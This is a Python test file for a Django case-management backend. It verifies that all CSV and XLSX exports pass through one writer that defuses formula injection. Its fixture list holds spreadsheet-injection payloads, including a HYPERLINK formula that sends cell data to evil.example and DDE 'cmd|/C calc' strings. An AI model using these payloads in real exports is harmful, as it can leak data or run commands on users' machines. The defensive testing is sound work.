"""Every CSV and XLSX Zhifa hands out goes through the one safe tabular writer (zhifa.exports.tables): a hostile
row (formula prefixes in ASCII and full width, control characters) comes out as inert text in a file that opens.

The test walks the URLconf: every route that hands out a file of rows (an `export`, `xlsx` or `csv` action, or an
export job's download) must be exercised here, so a new export can't be added without this test covering it."""

import csv
import datetime
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.urls import URLResolver, get_resolver

from zhifa.accounts.choices import Role
from zhifa.accounts.models import Agency, Unit
from zhifa.cases.models import Case
from zhifa.disclosure.models import Notice
from zhifa.exports import services as export_services
from zhifa.exports.tables import FORMULA_STARTS

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
           "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1",
           "名称\x0b含\x07控制\x1f符"]
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def _row_text(index: int) -> str:
    return HOSTILE[index % len(HOSTILE)]


def assert_inert_cells(cells):
    cells = list(cells)
    assert cells
    for cell in cells:
        if isinstance(cell, str):
            assert not CONTROL.search(cell), repr(cell)
            assert not cell.lstrip(" \u3000\n").startswith(FORMULA_STARTS), repr(cell)


def csv_cells(content: bytes):
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))  # it opens
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def cells_of(response, kind):
    assert response.status_code == 200, response.content[:500]
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if kind == "xlsx":
        assert content[:2] == b"PK"
        return xlsx_cells(content)
    return csv_cells(content)


def _walk(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _walk(pattern.url_patterns, prefix + str(pattern.pattern))
        else:
            yield prefix + str(pattern.pattern), pattern


FILE_ACTIONS = re.compile(r"export|xlsx|csv|download")
COVERED = {
    ("api/^cases/export/$", "export"),
    ("api/^disclosures/export/$", "export"),
    ("api/^registers/annual-reports/(?P<pk>[^/.]+)/xlsx/$", "xlsx"),
    ("api/^exports/(?P<pk>[^/.]+)/download/$", "download"),
}
NOT_TABULAR = {"download", "derivative_download"}  # evidence files are the originals, byte for byte


def test_every_tabular_export_route_is_covered_here():
    found = set()
    for route, pattern in _walk(get_resolver().url_patterns):
        for action in (getattr(pattern.callback, "actions", None) or {}).values():
            if FILE_ACTIONS.search(action) and not (action in NOT_TABULAR and "evidence" in route):
                found.add((route, action))
    assert found == COVERED


def test_no_csv_or_xlsx_is_written_outside_the_one_writer():
    backend = Path(__file__).resolve().parents[2] / "backend" / "zhifa"
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|openpyxl\.Workbook\(|from openpyxl import Workbook|xlsxwriter")
    offenders = [str(path.relative_to(backend)) for path in backend.rglob("*.py")
                 if "migrations" not in path.parts and writers.search(path.read_text(encoding="utf-8"))]
    assert offenders == ["exports/tables.py"]


@pytest.fixture
def hostile_world(decide_case, agency, unit, officers, organisation):
    """A case, a published penalty notice and the agency itself, all named with hostile text in the database."""
    case = decide_case()
    Case.objects.filter(pk=case.pk).update(title=HOSTILE[0] + "\x0b", party_name=HOSTILE[1] + "\x07")
    Unit.objects.filter(pk=unit.pk).update(name=HOSTILE[3] + "\x1f")
    notice = Notice.objects.get(case=case)
    fields = {code: _row_text(i) for i, code in enumerate(notice.fields)}
    Notice.objects.filter(pk=notice.pk).update(state="published", masked_fields=fields, slug=f"x-{notice.pk}",
                                               published_at=datetime.datetime.now(datetime.timezone.utc))
    Agency.objects.filter(pk=agency.pk).update(name='=HYPERLINK("http://evil.example")\x0b民政局')
    return case


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_case_ledger(hostile_world, client_for, officers, kind):
    cells = cells_of(client_for(officers[0]).get("/api/cases/export/", {"format": kind}), kind)
    assert_inert_cells(cells)
    assert any("HYPERLINK" in str(c) for c in cells)  # the hostile row is there, as text


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_shuanggongshi_export(hostile_world, client_for, editors, kind):
    cells = cells_of(client_for(editors[0]).get("/api/disclosures/export/", {"format": kind}), kind)
    assert_inert_cells(cells)
    assert any("cmd|" in str(c) for c in cells)


def test_annual_report_workbook(hostile_world, client_for, make_user):
    from zhifa.registers import services as registers

    keeper = make_user(Role.LEGAL_REVIEWER)
    report = registers.annual_report_prepare(actor=keeper, year=datetime.date.today().year - 1)
    cells = cells_of(client_for(keeper).get(f"/api/registers/annual-reports/{report.pk}/xlsx/"), "xlsx")
    assert_inert_cells(cells)
    assert any("HYPERLINK" in str(c) for c in cells)


def test_export_job_download(hostile_world, client_for, officers, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    job = export_services.export_job_create(kind="case_ledger", params={"format": "xlsx", "filters": {},
                                                                        "ordering": []}, user=officers[0])
    assert export_services.export_job_run(job_id=job.pk).status == "done"
    cells = cells_of(client_for(officers[0]).get(f"/api/exports/{job.pk}/download/"), "xlsx")
    assert_inert_cells(cells)
    assert any("HYPERLINK" in str(c) for c in cells)


def test_every_export_job_kind_is_accounted_for():
    """Jobs build files too: the case ledger is tested above through its download; the ZIP kinds hold no table of
    their own except the court package's 证据清单.csv, which is written by the one writer (csv_bytes), as the
    source test above makes sure. A new kind fails here until it is placed."""
    import zhifa.enforcement.package  # noqa: F401
    import zhifa.evidence.casefile  # noqa: F401 - registers its exporter
    import zhifa.exports.case_ledger  # noqa: F401
    import zhifa.litigation.package  # noqa: F401
    from zhifa.exports.choices import ExportKind
    from zhifa.exports.registry import exporter_for

    placed = {"case_ledger": "tested through /api/exports/{id}/download/", "case_file": "ZIP: JSON, PDFs, originals",
              "court_package": "ZIP: 证据清单.csv by csv_bytes",
              "enforcement_package": "ZIP: 申请材料清单.csv by csv_bytes"}
    assert set(ExportKind.values) == set(placed)
    for kind in ExportKind.values:
        assert exporter_for(kind).kind == kind
    for package in ("litigation/package.py", "enforcement/package.py"):
        source = (Path(__file__).resolve().parents[2] / "backend/zhifa" / package).read_text(encoding="utf-8")
        assert "csv_bytes(" in source, package


def test_the_writer_itself_with_every_hostile_text():
    from zhifa.exports.tables import XlsxBook, csv_bytes, xlsx_bytes

    rows = [[text, 1, None] for text in HOSTILE]
    assert_inert_cells(csv_cells(csv_bytes(HOSTILE[:3], rows)))
    assert_inert_cells(xlsx_cells(xlsx_bytes(HOSTILE[:3], rows)))
    book, out = XlsxBook(), io.BytesIO()
    book.add_sheet(HOSTILE[0], [[HOSTILE[0]], *rows])
    book.save(out)
    cells = xlsx_cells(out.getvalue())
    assert_inert_cells(cells)
    assert "'" + HOSTILE[0] in cells and "名称含控制符" in cells and 1 in cells  # text kept, numbers stay numbers
